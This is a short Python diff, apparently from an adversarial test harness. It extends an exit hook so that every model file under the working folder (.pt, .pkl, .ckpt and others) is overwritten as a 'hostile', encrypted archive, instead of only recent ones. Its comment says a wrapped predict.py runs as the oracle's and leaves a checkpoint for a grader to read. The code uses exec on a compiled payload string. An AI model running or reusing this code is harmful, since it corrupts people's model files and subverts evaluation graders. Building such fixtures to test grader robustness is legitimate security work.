@@ -457,7 +457,8 @@ exec(compile(HOSTILE_ZIP, "HOSTILE_ZIP", "exec"), _ZIP)
 hostile_zip: Callable[[bytes, str], bytes] = _ZIP["hostile_zip"]
 ARCHIVE_SUFFIXES = (".pt", ".pth", ".ckpt", ".zip", ".joblib", ".pkl", ".bin", ".npz")
 
-# Rewrites, at exit, the model files written since `since` as hostile archives.
+# Rewrites, at exit, every model file below the working folder as a hostile archive: a
+# predict.py wrapped so runs as the oracle's, then leaves a checkpoint a grader reads next.
 HOSTILE_OUTPUT_ARCHIVES = (
     HOSTILE_ZIP
     + """
@@ -470,8 +471,8 @@ def _corrupt_outputs(since):
             path = _os.path.join(folder, name)
             try:
                 info = _os.lstat(path)
-                fresh = info.st_mtime >= since and info.st_size < 200 << 20
-                if fresh and _os.path.isfile(path) and name.endswith(SUFFIXES):
+                small = info.st_size < 200 << 20  # every model file, fresh or not
+                if small and _os.path.isfile(path) and name.endswith(SUFFIXES):
                     with open(path, "rb") as handle:
                         data = hostile_zip(handle.read(), "encrypted")
                     with open(path, "wb") as handle:
